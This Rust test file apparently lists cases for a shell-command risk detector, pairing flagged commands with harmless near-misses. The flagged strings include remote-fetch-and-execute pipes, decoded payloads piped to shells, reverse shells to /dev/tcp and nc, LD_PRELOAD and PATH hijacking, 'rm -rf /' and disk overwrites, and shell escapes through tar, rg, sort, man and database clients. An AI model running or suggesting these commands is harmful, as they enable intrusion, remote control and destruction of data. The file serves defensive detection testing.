//! Code from elsewhere, and code that cannot be read.

use super::{Case, case};
use crate::command::keys;

pub(super) const CASES: &[Case] = &[
    case(
        keys::SHELL_C,
        &[
            "bash -c \"$CMD\"",
            "sh -lc \"ls $DIR\"",
            "bash -c 'echo \"'",
            "sudo sh -c \"$(cat x)\"",
            "( sh -c 'a'",
        ],
        &[
            "bash -c 'echo hi'",
            "bash x.sh -c y",
            "echo bash -c \"$X\"",
            "bash --version",
        ],
    ),
    case(
        keys::SCRIPT_E,
        &[
            "python3 -c 'print(1)'",
            "perl -ne print x",
            "node --eval 1",
            "ruby -e 1",
            "python -Ic 1",
            "php -r 1",
            "deno eval 1",
            "python3.12 -W ignore -c 1",
            "python <<< 'x'",
        ],
        &[
            "python x.py -c y",
            "perl -v",
            "node x.js -e",
            "python -m pytest -c x",
            "echo python -c 1",
            "perl -Ilib x.pl",
        ],
    ),
    case(
        keys::SCRIPT_HEREDOC,
        &[
            "python3 <<'E'\nprint(1)\nE",
            "node - <<E\n1\nE",
            "cd x && python <<E\n1\nE",
        ],
        &["cat <<E\npython <<F\nE", "python x.py <<E\n1\nE"],
    ),
    case(
        keys::SHELL_HEREDOC,
        &[
            "bash <<E\n$CMD\nE",
            "sh -s <<E\n$(cat x)\nE",
            "sh <<E\n`cat x`\nE",
        ],
        &[
            "bash <<'E'\necho hi\nE",
            "cat <<E\n$CMD\nE",
            "cat <<E\n`cat x`\nE",
            "bash <<E\necho hi\nE",
        ],
    ),
    case(
        keys::REMOTE_PIPE,
        &[
            "curl -fsSL x | sh",
            "wget -qO- x | sudo bash -s -- y",
            "curl x 2>/dev/null | tee f | bash",
            "curl x | python3",
            "{ curl x; } | sh",
            "curl x | (bash)",
        ],
        &[
            "curl x | jq .",
            "curl x | bash -c cat",
            "echo 'curl x | sh'",
            "curl x | grep sh",
            "curl x | python3 x.py",
        ],
    ),
    case(
        keys::REMOTE_PROCESS,
        &[
            "bash <(curl x)",
            "source <(wget -qO- x)",
            "sh < <(curl x)",
            "python3 <(curl x)",
        ],
        &["diff <(curl x) y", "bash <(cat x)"],
    ),
    case(
        keys::REMOTE_SUBSTITUTION,
        &[
            "bash -c \"$(curl x)\"",
            "eval \"$(wget -qO- x)\"",
            "$(curl x)",
            "sh <<< \"$(curl x)\"",
            ". $(curl x)",
            "source \"$(wget -qO- x)\"",
            ". -- `curl x`",
            "bash $(curl x) y",
            "sh <<E\n`curl x`\nE",
        ],
        &[
            "echo \"$(curl x)\"",
            "V=$(curl x)",
            ". ./env.sh $(curl x)",
            ". $(dirname $0)/lib.sh",
            "eval \"$(ssh-agent -s)\"",
        ],
    ),
    case(
        keys::DECODED_PIPE,
        &[
            "echo cm0= | base64 -d | sh",
            "base64 --decode f | bash",
            "base64 --d f | bash",
            "base64 -id f | bash",
            "eval \"$(echo cm0= | base64 -d)\"",
        ],
        &[
            "echo x | base64 -d",
            "echo x | base64 | sh -c cat",
            "base64 -d f > g",
        ],
    ),
    case(
        keys::XXD_PIPE,
        &["xxd -r -p f | sh", "echo 726d | xxd -rp | bash"],
        &["xxd f | less", "xxd -r f > g"],
    ),
    case(
        keys::TR_PIPE,
        &["echo ez | tr a-z b-za | sh", "tr x y < f | bash"],
        &["echo x | tr a b", "tr a b | wc"],
    ),
    case(
        keys::OPENSSL_PIPE,
        &[
            "openssl enc -d -aes256 -in f | sh",
            "openssl base64 -d -in f | bash",
        ],
        &["openssl enc -d -in f > g", "openssl version"],
    ),
    case(
        keys::CHMOD_RUN,
        &[
            "chmod +x a.sh && ./a.sh",
            "chmod u+x a; ./a x",
            "chmod +x /tmp/a && /tmp/a",
        ],
        &["chmod +x a.sh", "./a.sh; chmod +x a.sh", "chmod +x a && ls"],
    ),
    case(
        keys::TOO_COMPLEX,
        &[
            "bash -c \"bash -c \\\"\\$(x)\\\"; eval eval eval eval eval eval eval eval eval x\"",
            "eval eval eval eval eval eval eval eval eval eval x",
        ],
        &["eval eval x"],
    ),
    case(
        keys::UNRESOLVED,
        &[
            "$X",
            "\"$@\"",
            "sudo $X y",
            "$(cat f) x",
            "$(history) ",
            "$(history) m -rf /r",
            "x=$(cat f); $x",
            "while read c; do $c; done < f",
            "f() { \"$1\"; }; f \"$X\"",
        ],
        &[
            "x=ls; $x",
            "$(npm bin)/eslint .",
            "\"$HOME/bin/x\" y",
            "$(which ls)",
            "${EDITOR:-vi} x",
            "run() { \"$@\"; }; run ls",
            "for t in ./a ./b; do \"$t\"; done",
            "echo $X",
        ],
    ),
    case(
        keys::EVAL_UNKNOWN,
        &["eval \"$X\"", "eval $X y", "x=$(cat f); eval \"$x\""],
        &[
            "eval \"$(ssh-agent -s)\"",
            "eval 'ls'",
            "x=ls; eval \"$x\"",
            "eval \"$(direnv hook bash)\"",
        ],
    ),
    case(
        keys::PIPE_UNKNOWN,
        &[
            "zcat f | bash",
            "sed s/a/b/ f | sh",
            "echo \"$X\" | sh",
            "jq -r .x f | ssh host bash",
        ],
        &[
            "echo ls | sh",
            "cat x.sh | bash",
            "zcat f | wc",
            "ls | bash x.sh",
        ],
    ),
    case(
        keys::PROCESS_UNKNOWN,
        &["bash <(zcat f)", "source <(sed s/a/b/ f)"],
        &[
            "bash <(echo ls)",
            "source <(kubectl completion bash)",
            "diff <(a) <(b)",
        ],
    ),
    case(
        keys::DOWNLOAD_RUN,
        &[
            "curl http://h/x > x.sh; bash x.sh",
            "curl -fsSLo i http://h/x && sudo sh i",
            "wget http://h/x.sh && . ./x.sh",
            "curl http://h/x | tee y; sh y",
            "curl -O http://h/x.py; python3 x.py",
            "npx https://h/x.tgz",
            "npx -y --package git+https://h/x.git x",
            "uvx --from git+https://h/x x",
            "pnpm dlx github:a/b",
        ],
        &[
            "curl http://h/x -o x.json; jq . x.json",
            "wget http://h/d.csv && python3 p.py d.csv",
            "curl -O http://h/x.tgz && tar xf x.tgz",
            "npx playwright open https://h/x",
            "npx --yes degit https://h/x y",
            "npm run build -- https://h",
        ],
    ),
    case(
        keys::REVERSE_SHELL,
        &[
            "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
            "exec 5<>/dev/tcp/h/1; cat <&5",
            "nc -e /bin/sh h 1",
            "ncat --sh-exec sh h 1",
            "socat TCP:h:1 EXEC:sh",
            "cat f | sh -i 2>&1 | nc h 1 > f",
            "gawk 'BEGIN{s=\"/inet/tcp/0/h/1\"; while((s |& getline c)>0) while((c |& getline l)>0) print l |& s}'",
        ],
        &[
            "nc -z h 1",
            "(echo > /dev/tcp/h/1) 2>/dev/null",
            "tar c . | nc h 1",
            "bash x.sh | nc h 1",
        ],
    ),
    case(
        keys::TEMP_BUILD,
        &[
            "make -C /tmp/evil",
            "cargo run --manifest-path /tmp/evil/Cargo.toml",
            "make --file=/tmp/x",
        ],
        &[
            "make -C build",
            "make CC=/tmp/x",
            "cargo build --target-dir /tmp/t",
        ],
    ),
    case(
        keys::PACKAGE_SOURCE,
        &[
            "npm install ./evil",
            "npm i ../x",
            "pip install git+https://h/x",
            "pip install /tmp/x",
        ],
        &[
            "npm install",
            "npm install x",
            "pip install -e .",
            "pip install ./lib",
            "go install h/x@latest",
        ],
    ),
    case(
        keys::LOADED_CODE,
        &[
            "LD_PRELOAD=/tmp/x.so ls",
            "export BASH_ENV=/tmp/x",
            "env LD_AUDIT=x ls",
            "NODE_OPTIONS='--require /x.js' node y",
            "LD_LIBRARY_PATH=/tmp ls",
            "read LD_PRELOAD <<< ./x; export LD_PRELOAD",
            "printf -v BASH_ENV ./x; declare -x BASH_ENV",
        ],
        &[
            "LD_PRELOAD= ls",
            "LD_LIBRARY_PATH=./lib ./x",
            "NODE_OPTIONS=--max-old-space-size=1 node x",
            "PYTHONPATH=src pytest",
            "export -n LD_PRELOAD",
            "declare -p LD_PRELOAD",
            "export ENV",
        ],
    ),
    case(
        keys::SEARCH_PATH,
        &[
            "export PATH=/tmp/evil:$PATH",
            "PATH=. ls",
            "env PATH=/home/u/x ls",
            "PATH=$PATH: ls",
        ],
        &[
            "export PATH=\"$HOME/bin:$PATH\"",
            "PATH=/usr/bin:/bin ls",
            "export MYPATH=/tmp",
        ],
    ),
    case(
        keys::SHADOWED,
        &["enable -f /tmp/x.so x", "hash -p /tmp/evil ls; ls"],
        &["hash -r", "enable -n x"],
    ),
    case(
        keys::HIDDEN_COMMAND,
        &[
            "unknown-runner rm -rf /",
            "foo --run='rm -rf /'",
            "foo 'dd if=x of=/dev/sda'",
        ],
        &[
            "foo rm -rf x",
            "echo rm -rf /",
            "git commit -m 'rm -rf /'",
            "foo 'never rm -rf / here'",
        ],
    ),
    case(
        keys::CLIENT_SHELL,
        &[
            "sqlite3 x '.shell id'",
            "psql -c '\\! id'",
            "sqlite3 x <<< '.system id'",
        ],
        &["sqlite3 x .schema", "psql -c '\\dt'", "echo '.shell id'"],
    ),
    case(
        keys::SSH_KEY,
        &["ssh-copy-id x", "ssh-copy-id -i k u@h"],
        &["ssh-keygen -l -f x", "man ssh-copy-id"],
    ),
    Case {
        key: "arbitrary program execution via rg --pre",
        met: &["rg --pre sh x", "rg --pre=sh x"],
        near: &["rg --pretty x", "rg --sort --pre x", "rg -- --pre"],
    },
    Case {
        key: "arbitrary program execution via sort --compress-program",
        met: &["sort --compress-program=sh x", "sort --compress-prog sh x"],
        near: &["sort x", "sort --check x"],
    },
    Case {
        key: "arbitrary program execution via man -P",
        met: &["man -P sh ls", "man -Psh ls"],
        near: &["man ls", "man -k P"],
    },
    Case {
        key: "arbitrary program execution via tar --checkpoint-action",
        met: &[
            "tar cf x --checkpoint-action=exec=sh y",
            "tar --checkpoint-action exec=sh x",
        ],
        near: &["tar cf x --checkpoint-action=dot y", "tar cf x y"],
    },
];
